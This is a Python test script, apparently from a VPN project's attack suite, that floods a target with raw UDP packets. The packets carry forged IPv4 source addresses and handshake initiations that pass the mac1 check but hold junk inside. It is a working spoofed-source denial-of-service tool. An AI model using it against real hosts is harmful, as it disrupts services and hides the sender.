"""Calls from as many forged IPv4 sources as there are calls: right mac1, rubbish inside.

``python -m tests.reftunnel.attacks.forged PUBLIC_KEY TO PORT COUNT RATE_HZ``, as root.
"""

from __future__ import annotations

import ipaddress
import random
import socket
import struct
import sys
import time

from vpnforensics.reftunnel.keys import PublicKey

from ..flood import maker

_BURST = 50


def forged(source: int, to: str, port: int, message: bytes) -> bytes:
    """An IPv4 packet around a UDP datagram; without a UDP checksum, and the kernel fills in the other."""
    udp = struct.pack(">HHHH", 1024 + source % 60_000, port, 8 + len(message), 0)
    header = struct.pack(">BBHHHBBH", 0x45, 0, 28 + len(message), source & 0xFFFF, 0, 64, 17, 0)
    return header + struct.pack(">I", source) + ipaddress.IPv4Address(to).packed + udp + message


def main(key: str, to: str, port: int, count: int, rate_hz: float) -> None:
    make, chance = maker("initiations", PublicKey.from_text(key)), random.Random(3)
    messages = [make() for _ in range(512)]
    first = int(ipaddress.IPv4Address("100.64.0.0"))
    sources = chance.sample(range(first, first + (1 << 22)), count)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
        start = time.monotonic()
        for number, source in enumerate(sources):
            if number % _BURST == 0:
                time.sleep(max(0.0, start + number / rate_hz - time.monotonic()))
            sock.sendto(forged(source, to, port, messages[number % 512]), (to, 0))


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], *map(int, sys.argv[3:6]))
